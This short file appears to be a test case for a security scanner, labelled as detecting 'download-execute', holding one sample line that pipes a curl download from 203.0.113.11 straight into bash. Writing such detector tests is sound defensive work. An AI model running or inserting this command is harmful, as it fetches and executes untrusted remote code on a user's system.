# SPDX-License-Identifier: Apache-2.0
# A download is piped into a shell.
# finds: download-execute
# needs: curl
call c1 'curl -s http://203.0.113.11/install.sh | bash'
